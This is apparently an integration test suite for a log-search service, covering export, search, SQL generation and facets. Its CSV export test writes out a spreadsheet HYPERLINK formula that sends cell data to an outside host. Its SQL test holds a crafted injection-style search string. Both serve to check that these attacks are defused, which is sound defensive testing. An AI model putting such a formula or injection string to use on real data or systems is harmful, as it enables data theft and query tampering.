import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { ask, makeToken } from '../../support/callers.ts'
import { many } from '../../support/engines.ts'
import { logClient } from '../../support/log-client.ts'
import type { RunningService } from '../../support/service.ts'

type Row = { id: string; timestamp: number; project: string; event_message: string; metadata: object }

/** What leads on from a search, and facets compared with SQL. */
export function onward(running: () => RunningService): void {
  const { send } = logClient(running)
  const admin = (method: string, path: string, body?: unknown) =>
    ask(running(), running().adminToken.token, method, path, body)
  const download = (body: object, source = 'onward') =>
    fetch(`${running().url}/api/sources/${source}/export`, {
      method: 'POST',
      headers: { 'X-API-KEY': running().adminToken.token, 'Content-Type': 'application/json' },
      body: JSON.stringify(body),
    })
  const idsOf = (rows: readonly { id: string }[]) => rows.map(({ id }) => id)

  describe('from a search onward', () => {
    const startMs = Date.now() - 3_000_000
    const entries = Array.from({ length: 2_300 }, (_, n) => ({
      id: `o${n}`,
      timestamp: new Date(startMs + n * 100).toISOString(),
      event_message: n === 7 ? 'a "quoted", text\nof two lines' : `entry ${n}`,
      customer: { id: n % 2 === 0 ? 'even' : 'odd', 'tax.id': n },
      metadata: { trace_id: `trace${n % 50}`, big: '12345678901234567890' },
    }))
    beforeAll(async () => {
      await admin('POST', '/api/sources', {
        name: 'onward',
        project: 'metadata.customer.id',
        published: true,
      })
      await admin('POST', '/api/sources', { name: 'onward_too' })
      const text = JSON.stringify(entries).replaceAll('"12345678901234567890"', '12345678901234567890')
      expect((await send('onward', text)).body.accepted).toBe(entries.length)
      const other = { id: 'other', event_message: 'of another source', metadata: { deep: ['TRACE7'] } }
      await send('onward_too', JSON.stringify({ ...other, project: 'even' }))
    })

    test('takes the project from the path of the source, after the field project', async () => {
      const own = {
        id: 'own',
        project: 'field',
        event_message: 'own',
        metadata: { customer: { id: 'path' } },
      }
      const sent = [
        own,
        { ...own, id: 'path', project: undefined },
        { id: 'number', event_message: 'own', metadata: { customer: { id: 17 } } },
        { id: 'ref', event_message: 'own', metadata: { customer: { id: {} }, project_ref: 'ref' } },
        { id: 'none', event_message: 'own', customer: 'x' },
      ]
      const { body } = await send('onward', JSON.stringify(sent))
      expect(body).toMatchObject({ accepted: 5, rejected: 0 })
      const found = (await admin('POST', '/api/sources/onward/search', { query: 'message:own' }))
        .body as Row[]
      expect(Object.fromEntries(found.map(({ id, project }) => [id, project]))).toEqual({
        ...{ own: 'field', path: 'path', number: '17', ref: 'ref', none: '' },
      })
    })

    test('exports every entry as NDJSON or CSV, up to a limit', async () => {
      const query = 'message:entry OR quoted'
      const ndjson = await download({ query })
      expect(ndjson.headers.get('wellhead-export-limit')).toBe('100000')
      const text = await ndjson.text()
      const rows = text.trimEnd().split('\n')
      expect(rows.map((row) => JSON.parse(row).id)).toEqual(idsOf(entries).reverse())
      expect(rows[0]).toContain('"big":12345678901234567890')
      const csv = await download({ query, format: 'csv', limit: 1_500 })
      expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8')
      const [head, first, ...more] = (await csv.text()).split('\r\n')
      expect([head, more.length]).toEqual(['"timestamp","id","project","event_message","metadata"', 1_500])
      expect(first).toContain(
        '"o2299","odd","entry 2299","{""trace_id"":""trace49"",""big"":12345678901234567890,',
      )
      const quoted = await (await download({ query: 'id:o7', format: 'csv' })).text()
      expect(quoted).toContain(',"a ""quoted"", text\nof two lines",')
      for (const [body, status] of [
        [{ query: '(' }, 400],
        [{ limit: 100_001 }, 400],
        [{ format: 'xml' }, 400],
      ] as const) {
        expect((await download(body)).status).toBe(status)
      }
      expect((await download({}, 'nothing')).status).toBe(404)
      expect(await (await download({ query: 'message:nobody' })).text()).toBe('')
    })

    test('exports chosen columns, with all digits of numbers', async () => {
      const columns = [
        'message',
        'customer."tax.id"',
        'metadata.big',
        'absent',
        'customer',
        'metadata.project',
      ]
      const csv = await (await download({ query: 'id:o9', format: 'csv', columns })).text()
      expect(csv).toBe(
        '"message","customer.""tax.id""","metadata.big","absent","customer","metadata.project"\r\n' +
          '"entry 9",9,12345678901234567890,,"{""id"":""odd"",""tax.id"":9}",\r\n',
      )
      const lines = await (await download({ query: 'id:o9', columns: ['timestamp', 'big', 'absent'] })).text()
      expect(lines).toMatch(/^\{"timestamp":"[\d-]+T[\d:.]+Z","big":12345678901234567890,"absent":null\}\n$/)
      for (const wrong of [['a..b'], [], Array(51).fill('x')]) {
        expect((await download({ columns: wrong })).status).toBe(400)
      }
    })

    test('exports CSV without formulas, unless it is raw', async () => {
      await admin('POST', '/api/sources', { name: 'onward_formulas' })
      const formula = '=HYPERLINK("http://example.com/?"&A1)'
      const entry = { id: '@id', event_message: formula, minus: -5, text: '-5', tab: '\t=1', plain: 'a=1' }
      await send('onward_formulas', JSON.stringify(entry))
      const columns = ['id', 'message', 'minus', 'text', 'tab', 'plain']
      const rowOf = async (search: string) => {
        const file = await running().call(`/api/sources/onward_formulas/export${search}`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: JSON.stringify({ format: 'csv', columns }),
        })
        return (await file.text()).split('\r\n')[1]
      }
      const quoted = formula.replaceAll('"', '""')
      expect(await rowOf('')).toBe(`"'@id","'${quoted}",-5,"'-5","'\t=1","a=1"`)
      expect(await rowOf('?raw=true')).toBe(`"@id","${quoted}",-5,"-5","\t=1","a=1"`)
    })

    test('exports entries that are too large for one page, and leaves them out of the counts of fields', async () => {
      await admin('POST', '/api/sources', { name: 'onward_large' })
      const large = { event_message: 'large', metadata: { kind: 'large', text: 'x'.repeat(900_000) } }
      for (let n = 0; n < 4; n++) await send('onward_large', JSON.stringify(Array(10).fill(large)))
      const small = { id: 'small', event_message: 'small', metadata: { kind: 'small' } }
      await send('onward_large', JSON.stringify(small))
      const rows = (await (await download({}, 'onward_large')).text()).trimEnd().split('\n')
      const ids = new Set(rows.map((row) => JSON.parse(row).id))
      expect([ids.size, rows.filter((row) => row.length > 900_000).length]).toEqual([41, 40])
      const { body } = await admin('POST', '/api/sources/onward_large/facets', {})
      expect([body.entries, body.facets]).toEqual([
        41,
        [expect.objectContaining({ field: 'kind', sampled: 1, values: [{ value: 'small', count: 1 }] })],
      ])
    })

    test('shows entries of the same project before and after an entry', async () => {
      const url = '/api/sources/onward/entries/o1000/context?before=2&after=3'
      const expected = ['o1006', 'o1004', 'o1002', 'o1000', 'o998', 'o996']
      expect(idsOf((await admin('GET', url)).body)).toEqual(expected)
      const { token } = await makeToken(running(), { scopes: ['search'], project: 'odd' })
      expect((await ask(running(), token, 'GET', url)).status).toBe(404)
      expect((await admin('GET', '/api/sources/onward/entries/o1000/context?before=501')).status).toBe(400)
    })

    test('finds a word in several sources', async () => {
      const found = (await admin('POST', '/api/search', { query: 'trace7', limit: 3 })).body
      expect(found.map(({ source, id }: { source: string; id: string }) => [source, id])).toEqual([
        ['onward_too', 'other'],
        ['onward', 'o2257'],
        ['onward', 'o2207'],
      ])
      const some = await admin('POST', '/api/search', { query: 'trace7', sources: ['onward'], limit: 1 })
      expect(idsOf(some.body)).toEqual(['o2257'])
      expect((await admin('POST', '/api/search', { sources: ['nothing'] })).status).toBe(404)
      const { token } = await makeToken(running(), { scopes: ['search'], project: 'odd' })
      const own = (await ask(running(), token, 'POST', '/api/search', { query: 'trace7' })).body as Row[]
      expect(new Set(own.map(({ project }) => project))).toEqual(new Set(['odd']))
    })

    test('becomes SQL of a moving range, for an endpoint', async () => {
      const search = { query: 'trace7', project: 'odd', last_seconds: 7_200 }
      const { query, count } = (await admin('POST', '/api/sources/onward/search-sql', search)).body
      expect(query).toBe(
        'SELECT timestamp, id, project, event_message, metadata\nFROM onward\n' +
          "WHERE timestamp >= @now - INTERVAL 7200 SECOND AND timestamp <= @now AND project = 'odd' AND (matches('trace7'))\n" +
          'ORDER BY timestamp DESC, id DESC',
      )
      expect((await admin('POST', '/api/sql', { query: count })).body.result).toEqual([{ entries: 46 }])
      const saved = await admin('POST', '/api/endpoints', { name: 'onward.traces', query })
      expect([saved.status, saved.body.warnings ?? []]).toEqual([201, []])
      const called = await admin('GET', '/api/endpoints/query/onward.traces')
      expect(idsOf(called.body.result)).toHaveLength(46)
      // A key is text, even if it looks like the place of a value.
      const hostile = { query: `-metadata."{query1:String}":a id:", 'String') = '' OR 1 --" OR id:o7` }
      const sql = (await admin('POST', '/api/sources/onward/search-sql', hostile)).body
      expect((await admin('POST', '/api/sql', { query: sql.count })).body.result).toEqual([{ entries: 1 }])
    })

    test('has the same words in SQL: in endpoints, with parameters, in sandboxes and in joins', async () => {
      const run = async (query: string) => (await admin('POST', '/api/sql', { query })).body
      const call = async (name: string, values: Record<string, string>) =>
        (await admin('GET', `/api/endpoints/query/${name}?${new URLSearchParams(values)}`)).body.result
      const query = 'SELECT count() AS n FROM onward WHERE @word IS NULL OR matches(@word)'
      expect((await admin('POST', '/api/endpoints', { name: 'onward.word', query })).status).toBe(201)
      expect(await call('onward.word', { word: 'TRACE7' })).toEqual([{ n: 46 }])
      expect(await call('onward.word', { word: '1000' })).toEqual([{ n: 1 }])
      expect((await call('onward.word', {}))[0].n).toBeGreaterThanOrEqual(2_300)
      const sandbox = 'WITH logs AS (SELECT id, event_message, metadata FROM onward) SELECT * FROM logs'
      await admin('POST', '/api/endpoints', { name: 'onward.sandbox', query: sandbox, sandbox: true })
      const own = "SELECT count() AS value, 'x' AS metadata FROM logs AS l WHERE matches('trace7')"
      expect(await call('onward.sandbox', { sql: own })).toEqual([{ value: 46, metadata: 'x' }])
      const joined = 'FROM onward AS o CROSS JOIN onward_too AS t'
      const both = `SELECT count() AS n ${joined} WHERE matches(o, 'trace7') AND matches(t, 'Trace7')`
      expect((await run(both)).result).toEqual([{ n: 46 }])
      for (const [refused, line, column, message] of [
        [`SELECT 1 ${joined}\nWHERE matches('x')`, 2, 7, "Write its name before the word: matches(o, 'x')."],
        ["SELECT 1 FROM onward\nWHERE matches('x\ny') AND idd = '1'", 3, 9, 'no column idd'],
        [
          "SELECT 1 FROM (SELECT id FROM onward) AS o\nWHERE matches('x')",
          2,
          7,
          'matches reads event_message',
        ],
      ] as const) {
        const { error } = await run(refused)
        expect(error).toMatchObject({
          code: 'invalid_query',
          line,
          column,
          message: expect.stringContaining(message),
        })
      }
    })

    test('has typed columns for keys with dots, and SQL that reads them gets a hint', async () => {
      const column = { name: 'tax', path: 'customer."tax.id"', type: 'number' }
      const changed = await admin('PATCH', '/api/sources/onward', { columns: [column] })
      expect(changed.body.columns[0].path).toBe('customer.tax%2Eid')
      const found = await admin('POST', '/api/sources/onward/search', {
        query: 'customer."tax.id":1000..1002',
      })
      expect(idsOf(found.body)).toEqual(['o1002', 'o1001', 'o1000'])
      const sql = 'SELECT metadata.customer.tax.id::Nullable(Float64) AS x FROM onward LIMIT 1'
      const checked = await admin('POST', '/api/endpoints/check', { name: 'x', query: sql })
      expect(JSON.stringify(checked.body.warnings)).toContain('Did you mean metadata.customer.`tax.id`?')
    })
  })

  test('facets are the counts of SQL, over random entries and searches', async () => {
    const value = fc.constantFrom<unknown>('a', 'b', 'ä', '', 1, 2.5, true, null, undefined, { in: 'x' }, [
      'a',
    ])
    const entry = fc.record({
      project: fc.constantFrom('p', 'q'),
      metadata: fc.record({ one: value, two: value, 'd.o.t': value, typed: value }),
    })
    await admin('POST', '/api/sources', {
      name: 'random_facets',
      columns: [{ name: 'typed', path: 'typed', type: 'text' }],
    })
    let round = 0
    const property = fc.asyncProperty(
      fc.array(entry, { minLength: 1, maxLength: 80 }),
      fc.constantFrom('', 'one:a', '-two:b', 'a', 'NOT typed:*', 'metadata."d.o.t":a OR 1'),
      async (sent, query) => {
        const message = `round${round++}x`
        await send('random_facets', JSON.stringify(sent.map((one) => ({ ...one, event_message: message }))))
        const all = `message:${message} (${query || '*'})`
        const { body } = await admin('POST', '/api/sources/random_facets/facets', { query: all })
        const sqlOf = (await admin('POST', '/api/sources/random_facets/search-sql', { query: all })).body
        const where = sqlOf.count.slice(sqlOf.count.indexOf('FROM'))
        const counted = async (sql: string) =>
          (await admin('POST', '/api/sql', { query: sql, max_rows: 1000 })).body.result
        const [{ entries }] = await counted(sqlOf.count)
        expect(body.entries).toBe(entries)
        for (const { field, sampled, entries: having, values } of body.facets) {
          const keys = field.split('.').map((key: string) => `'${key.replaceAll('%2E', '.')}'`)
          const read = `ifNull(JSONExtract(metadata, ${keys.join(', ')}, 'Nullable(String)'), '')`
          const rows = await counted(
            `SELECT ${read} AS value, count() AS count ${where} AND value != '' GROUP BY value ORDER BY count DESC, value`,
          )
          expect({ query, field, values }).toEqual({ query, field, values: rows })
          expect([sampled, having]).toEqual([
            entries,
            rows.reduce((sum: number, row: { count: number }) => sum + row.count, 0),
          ])
          expect(having).toBeLessThanOrEqual(sampled)
        }
      },
    )
    await fc.assert(property, { numRuns: many(60, 6), seed: 45 })
  })
}
